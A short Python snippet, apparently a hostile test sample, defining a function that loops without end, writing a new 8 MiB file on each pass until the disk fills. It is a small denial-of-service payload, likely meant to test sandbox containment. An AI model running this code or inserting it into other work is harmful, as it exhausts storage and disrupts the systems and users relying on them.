from pathlib import Path


def attacked(x):
    number = 0
    while True:
        number += 1
        Path(f"hostile-was-here-{number}").write_bytes(bytes(8 << 20))
